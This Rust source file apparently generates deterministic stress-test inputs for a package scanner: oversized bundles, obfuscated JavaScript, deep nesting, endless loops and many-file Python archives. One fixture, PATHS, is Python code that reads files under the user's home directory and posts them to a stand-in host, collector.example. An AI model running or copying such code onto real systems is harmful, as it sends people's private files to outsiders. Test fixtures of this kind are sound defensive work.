//! Inputs that cost the most for their size. They are made by code, and are the same every time.

use std::fmt::Write;

use testkit::archive::tgz;

/// A name for the table, the file name of the archive, and its bytes.
pub type Case = (&'static str, &'static str, Vec<u8>);

/// All of them.
pub fn cases() -> Vec<Case> {
    vec![
        ("small package", "small-1.0.0.tgz", npm(&small())),
        ("honest bundle, 2 MB", "bundle-1.0.0.tgz", npm(&bundle(2_000_000))),
        ("honest Python, 2 MB", "many-1.0.tar.gz", sdist(&modules(200, 10_000))),
        ("one line, 300 kB", "line-1.0.0.tgz", npm(&bundle(300_000).replace('\n', ""))),
        ("one expression, 300 kB", "sum-1.0.0.tgz", npm(&format!("x = {}0;", "a.b('c')[d] + ".repeat(21_000)))),
        ("hex table, 148 kB", "table-1.0.0.tgz", npm(&table(29_600))),
        ("hex table of Python, 148 kB", "table-1.0.tar.gz", sdist(&[("table.py".into(), python_table(29_600))])),
        ("obfuscated bundle, 1 MB", "hidden-1.0.0.tgz", npm(&obfuscated(1_000_000))),
        ("obfuscated bundle, 7 MB", "hidden-7.0.0.tgz", npm(&obfuscated(7_000_000))),
        ("obfuscated bundle, 10 MB", "hidden-10.0.0.tgz", npm(&obfuscated(10_000_000))),
        ("10,000 files", "files-1.0.tar.gz", sdist(&modules(10_000, 1_200))),
        ("10,000 files with loops", "loops-1.0.tar.gz", sdist(&loops(10_000))),
        ("200,000 brackets", "deep-1.0.0.tgz", npm(&format!("{}1{}", "(".repeat(200_000), ")".repeat(200_000)))),
        ("walk over unknown things", "walk-1.0.0.tgz", npm(WALK)),
        ("calls of calls", "calls-1.0.0.tgz", npm(&calls(40))),
        ("numbers without end", "numbers-1.0.0.tgz", npm(NUMBERS)),
        ("lists that grow", "lists-1.0.tar.gz", sdist(&[("grow.py".into(), GROW.into())])),
        ("texts that grow", "texts-1.0.tar.gz", sdist(&[("text.py".into(), TEXTS.into())])),
        ("paths times files", "paths-1.0.tar.gz", sdist(&[("paths.py".into(), PATHS.into())])),
    ]
}

/// Goes round without end over things that nobody knows.
const WALK: &str = "
function walk(root, seen) {
    const stack = [[root, 0]];
    while (stack.length > 0) {
        const [node, parent] = stack.pop();
        seen.push({ start: node.start, parent });
        for (let i = 0; i < 9; i++) stack.push([node.children[i], node.count + parent]);
    }
}
module.exports = walk;
";

/// Computes with known numbers, and never makes a text.
const NUMBERS: &str = "
const state = [1, 2, 3, 4, 5, 6, 7, 8];
for (let round = 0; round < 1e9; round++) {
    for (let at = 0; at < 8; at++) {
        state[at] = (state[at] << 5 ^ state[(at + 1) & 7] >>> 3) + Math.imul(round, 0x9e3779b1) | 0;
    }
}
module.exports = state;
";

const GROW: &str = "
rows = [0]
for at in range(30):
    rows = rows + rows
kept = []
for at in range(100000):
    kept += rows[:1000]
    rows = rows[1:] + [at]
";

const TEXTS: &str = "
text = 'abc'
for at in range(100000):
    text = text + text[:100] + str(at)
    text = text.replace('a', 'bb')[:1000000]
    parts = [ord(one) for one in text]
";

const PATHS: &str = "
import os, requests
def take(homes, names, profiles):
    for home in ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j']:
        for name in ['k', 'l', 'm', 'n', 'o', 'p', 'q', 'r', 's', 't']:
            for profile in ['u', 'v', 'w', 'x', 'y', 'z', '0', '1', '2', '3']:
                for part in ['4', '5', '6', '7', '8', '9', '10', '11', '12', '13']:
                    path = os.path.join(os.getenv('HOME'), home, name, profile, part)
                    if os.path.exists(path):
                        with open(path) as file:
                            requests.post('https://collector.example/' + part, data=file.read())
take(1, 2, 3)
";

fn npm(code: &str) -> Vec<u8> {
    let manifest = br#"{"name": "x", "version": "1.0.0", "main": "index.js"}"#;
    tgz(&[("package/package.json", manifest), ("package/index.js", code.as_bytes())])
}

fn sdist(files: &[(String, String)]) -> Vec<u8> {
    let mut all = vec![
        ("x-1.0/PKG-INFO".to_owned(), "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n".to_owned()),
        ("x-1.0/setup.py".to_owned(), "from setuptools import setup\nsetup(name='x', version='1.0')\n".to_owned()),
    ];
    all.extend(files.iter().map(|(path, text)| (format!("x-1.0/x/{path}"), text.clone())));
    let entries: Vec<(&str, &[u8])> = all.iter().map(|(path, text)| (path.as_str(), text.as_bytes())).collect();
    tgz(&entries)
}

/// Numbers that look like chance and are the same every time.
struct Chance(u64);

impl Chance {
    fn below(&mut self, most: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 % most
    }
}

fn small() -> String {
    bundle(6_000)
}

/// What a bundler writes: many small modules of functions that call each other.
fn bundle(size: usize) -> String {
    let mut chance = Chance(7);
    let mut text = String::with_capacity(size + 2048);
    text.push_str("'use strict';\nvar modules = {};\n");
    let mut at = 0;
    while text.len() < size {
        let (one, other) = (chance.below(at + 1), chance.below(90));
        let _ = write!(
            text,
            "modules[{at}] = function (module, exports, require) {{\n\
             var helper = require({one}), options = {{ depth: {other}, name: 'part-{at}', list: [1, 2, {other}] }};\n\
             function visit(node, state) {{ if (!node || state.depth > {other}) {{ return null; }}\n\
             for (var i = 0; i < node.children.length; i++) {{ state.seen.push(helper.key(node.children[i], i)); }}\n\
             var text = String(node.value).replace(/[a-z]+/g, function (word) {{ return word.toUpperCase() + '{at}'; }});\n\
             return visit(node.next, {{ depth: state.depth + 1, seen: state.seen, text: text }}); }}\n\
             class Part{at} extends helper.Base {{ constructor(a, b) {{ super(a); this.a = a; this.b = b || options; }}\n\
             render(target) {{ return this.a ? visit(target, this.b) : helper.render(target, `x-${{this.b.name}}`); }} }}\n\
             exports.visit = visit; exports.Part = Part{at}; }};\n"
        );
        at += 1;
    }
    text
}

/// Honest modules of so many bytes each.
fn modules(count: usize, size: usize) -> Vec<(String, String)> {
    (0..count)
        .map(|at| {
            let mut text = String::from("import os\nimport json\nfrom . import base\n\n");
            let mut part = 0;
            while text.len() < size {
                let _ = write!(
                    text,
                    "class Part{part}(base.Part):\n    \"\"\"Does part {part} of {at}.\"\"\"\n\n\
                     \x20   def __init__(self, name, options=None):\n        super().__init__(name)\n\
                     \x20       self.options = options or {{'depth': {part}, 'kind': 'part-{at}'}}\n\n\
                     \x20   def read(self, rows):\n        result = []\n        for row in rows:\n\
                     \x20           key = '%s-%d' % (self.options['kind'], len(result))\n\
                     \x20           if row.get('value') is not None and key not in self.seen:\n\
                     \x20               result.append(json.dumps({{key: row['value'], 'at': self.depth({part})}}))\n\
                     \x20       return '\\n'.join(result)\n\n\
                     \x20   def depth(self, least):\n        return max(least, self.options.get('depth', 0))\n\n\n"
                );
                part += 1;
            }
            (format!("part{at}.py"), text)
        })
        .collect()
}

/// Files each of which has a loop that is worth all that a file may spend.
fn loops(count: usize) -> Vec<(String, String)> {
    let text = "def mix(rows):\n    state = 1\n    for at in range(1000000):\n        state = state * 31 + at & 0xffff\n\
                \x20       rows.append(chr(state & 127))\n    return rows\n\nmix([])\n";
    (0..count).map(|at| (format!("loop{at}.py"), text.to_owned())).collect()
}

fn table(count: usize) -> String {
    let mut chance = Chance(11);
    let numbers: String = (0..count).map(|_| format!("0x{:02x},", chance.below(256))).collect();
    format!(
        "const table = [{numbers}];\nlet out = '';\n\
         for (let i = 0; i < table.length; i++) out += String.fromCharCode(table[i] ^ 0x5a);\nmodule.exports = out;\n"
    )
}

fn python_table(count: usize) -> String {
    let mut chance = Chance(13);
    let numbers: String = (0..count).map(|_| format!("0x{:02x},", chance.below(256))).collect();
    format!("table = [{numbers}]\nout = ''.join(chr(one ^ 0x5a) for one in table)\nkept = [one for one in out]\n")
}

/// What a JavaScript obfuscator writes: an array of texts that is turned until a sum is right, and a function that looks
/// into it by number. The sum never is right.
fn obfuscated(size: usize) -> String {
    let mut chance = Chance(17);
    let letters = b"abcdefghijklmnopqrstuvwxyz0123456789";
    let words = (size / 400).min(4_000);
    let mut text = String::from("const _0x1a2b = _0x3c4d;\nfunction _0x5e6f() { const _0x111111 = [");
    for _ in 0..words {
        let word: String = (0..12).map(|_| letters[chance.below(36) as usize] as char).collect();
        let _ = write!(text, "'{}{word}',", chance.below(1000));
    }
    text.push_str(
        "]; _0x5e6f = function () { return _0x111111; }; return _0x5e6f(); }\n\
         function _0x3c4d(_0x222222, _0x333333) { const _0x444444 = _0x5e6f();\n\
         return _0x3c4d = function (_0x555555, _0x666666) { _0x555555 = _0x555555 - 0x10; return _0x444444[_0x555555]; },\n\
         _0x3c4d(_0x222222, _0x333333); }\n\
         (function (_0x777777, _0x888888) { const _0x999999 = _0x3c4d, _0xaaaaaa = _0x777777();\n\
         while (!![]) { try { const _0xbbbbbb = parseInt(_0x999999(0x11)) / 0x1 + -parseInt(_0x999999(0x12)) / 0x2 * \
         (parseInt(_0x999999(0x13)) / 0x3) + parseInt(_0x999999(0x14)) / 0x4 + parseInt(_0x999999(0x15)) / 0x5;\n\
         if (_0xbbbbbb === _0x888888) break; else _0xaaaaaa['push'](_0xaaaaaa['shift']()); }\n\
         catch (_0xcccccc) { _0xaaaaaa['push'](_0xaaaaaa['shift']()); } } }(_0x5e6f, 0x1b2f3d));\n",
    );
    let mut at = 0;
    while text.len() < size {
        let numbers: Vec<u64> = (0..6).map(|_| 0x10 + chance.below(words as u64)).collect();
        let _ = writeln!(
            text,
            "function _0xf{at:05x}(_0xd1, _0xd2) {{ const _0xd3 = _0x1a2b; if (_0xd1[_0xd3({:#x})] === _0xd3({:#x}) + \
             _0xd3({:#x})) {{ return _0xd2[_0xd3({:#x})](_0xd1, _0xd3({:#x})); }} else {{ for (let _0xd4 = 0x0; _0xd4 < \
             _0xd1['length']; _0xd4++) {{ _0xd2[_0xd4] = _0xf{:05x}(_0xd1[_0xd4], _0xd3({:#x})); }} }} }}",
            numbers[0],
            numbers[1],
            numbers[2],
            numbers[3],
            numbers[4],
            chance.below(at + 1),
            numbers[5],
        );
        at += 1;
    }
    text
}

/// Functions each of which calls the next one many times over.
fn calls(count: usize) -> String {
    let mut text = String::new();
    for at in 0..count {
        let next = at + 1;
        let _ = writeln!(
            text,
            "function f{at}(a, b) {{ f{next}(a, 'x{at}'); f{next}(b, 1); f{next}('y', a); f{next}([a], b); return f{next}(a + b, {at}); }}"
        );
    }
    let _ = writeln!(text, "function f{count}(a, b) {{ return a + b; }}\nmodule.exports = f0('a', 'b');");
    text
}
